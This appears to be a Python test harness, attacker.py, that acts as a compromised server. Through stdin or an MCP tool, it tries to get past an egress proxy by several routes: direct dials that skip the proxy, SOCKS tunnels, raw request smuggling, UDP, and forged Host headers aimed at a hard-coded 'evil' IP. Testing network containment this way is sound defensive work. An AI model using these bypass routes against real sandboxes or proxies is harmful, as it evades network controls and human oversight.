"""A server that was taken over: it sends one attack case on any way out, and says what came back.

    attacker.py          reads JSON lines {"way", "case", "mark"} from stdin, answers each with a line {"said"}
    attacker.py --mcp    the same as the tool `attempt` of an MCP server over stdio

Ways: `proxy` and `socks` (by HTTP_PROXY), `direct` (no proxy: looks the name up, and dials), `forged` (dials the evil origin and
says the name there).
"""

from __future__ import annotations

import json
import os
import re
import socket
import ssl
import sys
import time
import urllib.parse

EVIL = "20.20.20.66"
SECONDS = 8


def read(stream: socket.socket, seconds: float = 3) -> bytes:
    """What comes until the response is complete, the stream ends, or time is over."""
    said, end = b"", time.monotonic() + seconds
    try:
        while (left := end - time.monotonic()) > 0:
            stream.settimeout(left)
            chunk = stream.recv(65536)
            if not chunk:
                break
            said += chunk
            head, blank, body = said.partition(b"\r\n\r\n")
            length = re.search(rb"(?i)\ncontent-length: *(\d+)", head)
            if blank and length and len(body) >= int(length[1]):
                break
    except OSError:
        pass
    return said


def status(said: bytes) -> int:
    found = re.match(rb"HTTP/1\.\d (\d{3})", said)
    return int(found[1]) if found else 0


class Proxy:
    """Through the proxy that the environment names."""

    def dial(self) -> socket.socket:
        proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
        return socket.create_connection((proxy.hostname, proxy.port), SECONDS)

    def get(self, url: str, host: str) -> bytes:
        with self.dial() as stream:
            stream.sendall(f"GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            return read(stream, 6)

    def raw(self, data: bytes, mark: str) -> bytes:
        with self.dial() as stream:
            stream.sendall(data)
            said = read(stream)
            if data.startswith(b"CONNECT") and status(said) == 200:
                stream.sendall(f"GET /{mark} HTTP/1.1\r\nHost: allowed.test\r\n\r\n".encode())
            return said + read(stream, 0.5)

    def tunnel(self, authority: str) -> tuple[socket.socket, bytes]:
        stream = self.dial()
        stream.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
        said = b""
        while b"\r\n\r\n" not in said and (chunk := stream.recv(65536)):
            said += chunk
        return stream, b"" if status(said) == 200 else said


class Socks(Proxy):
    """SOCKS5 with names, on the same port."""

    def tunnel(self, authority: str) -> tuple[socket.socket, bytes]:
        host, port = split(authority, 443)
        name = host.encode()
        if len(name) > 255 or not 0 < port < 65536:
            return socket.socket(), b"not to be written in SOCKS5"
        stream = self.dial()
        stream.sendall(b"\5\1\0")
        stream.recv(2)
        stream.sendall(b"\5\1\0\3" + bytes([len(name)]) + name + port.to_bytes(2, "big"))
        said = stream.recv(64)
        return stream, b"" if said[1:2] == b"\0" else b"socks code %d" % (said[1] if len(said) > 1 else -1)

    def get(self, url: str, host: str) -> bytes:
        authority, path = pieces(url)
        return Direct.request(self.tunnel(authority if split(authority, 0)[1] else f"{authority}:80"), host, path)


class Direct:
    """Past the proxy: looks the name up and dials, like a program that was never told of one."""

    def address(self, host: str) -> str:
        return host.strip("[]").partition("%25")[0]

    def tunnel(self, authority: str, port: int = 443) -> tuple[socket.socket, bytes]:
        host, port = split(authority, port)
        if not 0 < port < 65536:
            return socket.socket(), b"no port"
        try:
            return socket.create_connection((self.address(host), port), SECONDS), b""
        except (OSError, ValueError, OverflowError) as error:
            return socket.socket(), f"refused: {error}".encode()

    def get(self, url: str, host: str) -> bytes:
        authority, path = pieces(url)
        return self.request(self.tunnel(authority, 80), host, path)

    @staticmethod
    def request(opened: tuple[socket.socket, bytes], host: str, path: str) -> bytes:
        stream, refused = opened
        with stream:
            if refused:
                return refused
            stream.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            return read(stream, 4)

    def raw(self, data: bytes, mark: str) -> bytes:
        stream, refused = self.tunnel("allowed.test:80")
        with stream:
            if refused:
                return refused
            stream.sendall(data)
            return read(stream) + read(stream, 0.5)


class Forged(Direct):
    """Dials the evil origin, whatever the name is, and says the name there. Addresses are dialled as they are."""

    def address(self, host: str) -> str:
        return host.strip("[]").partition("%25")[0] if re.fullmatch(r"[\[\]0-9a-fx.:%lo]+", host) else EVIL


WAYS = {"proxy": Proxy, "socks": Socks, "direct": Direct, "forged": Forged}


def split(authority: str, port: int) -> tuple[str, int]:
    found = re.fullmatch(r"(.*?|\[.*\]):\+?(\d+)", authority, re.DOTALL)
    return (found[1], int(found[2])) if found else (authority, port)


def pieces(url: str) -> tuple[str, str]:
    """Authority and path, read as carelessly as many clients do."""
    found = re.match(r"https?:/*([^/?]*)(.*)", url, re.DOTALL)
    return found[1].rpartition("@")[2], found[2] or "/"


def words(case: dict, mark: str) -> bytes:
    """The bare bytes of a case; `{a*70000}` is so many of that letter."""
    data = re.sub(r"\{a\*(\d+)\}", lambda found: "a" * int(found[1]), case["data"])
    return data.replace("{N}", mark).encode("latin1")


def connect(way: Proxy | Direct, case: dict, mark: str) -> bytes:
    authority = case["authority"]
    stream, refused = way.tunnel(authority)
    with stream:
        if refused:
            return refused
        name = split(authority, 443)[0].strip("[]")
        sni = case.get("sni", name)
        if case.get("tls", True):
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            try:
                stream = context.wrap_socket(stream, server_hostname=sni.rstrip(".") or None)
            except (ValueError, UnicodeError):
                stream = context.wrap_socket(stream)
        with stream:
            host = case.get("http_host", sni or name)
            plain = f"GET /{mark} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
            stream.sendall(words(case, mark) if "data" in case else plain.encode())
            return read(stream, 4)


def attempt(way: str, case: dict, mark: str) -> str:
    """Sends the case; returns what came back, or how it failed."""
    out = WAYS[way]()
    try:
        if case["kind"] == "get":
            url = case["url"].replace("{N}", mark)
            said = out.get(url, case.get("host", pieces(url)[0]))
        elif case["kind"] == "connect":
            said = connect(out, case, mark)
        elif case["kind"] == "udp":
            said = datagram(case["address"], case["port"], mark)
        else:
            said = out.raw(words(case, mark), mark)
    except (OSError, ValueError, OverflowError) as error:
        said = f"refused: {error}".encode()
    return said.decode("latin1")[:2000]


def datagram(address: str, port: int, mark: str) -> bytes:
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(1)
        out.connect((address, port))
        out.send(mark.encode())
        return out.recv(2000)


def lines() -> None:
    for line in sys.stdin:
        asked = json.loads(line)
        print(json.dumps({"said": attempt(asked["way"], asked["case"], asked["mark"])}), flush=True)


def mcp() -> None:
    from mcp.server.mcpserver import MCPServer

    server = MCPServer("attacker")

    @server.tool(name="attempt")
    def tool(way: str, case: str, mark: str) -> str:
        return attempt(way, json.loads(case), mark)

    server.run()


if __name__ == "__main__":
    if sys.argv[1:] == ["--mcp"]:
        mcp()
    else:
        lines()
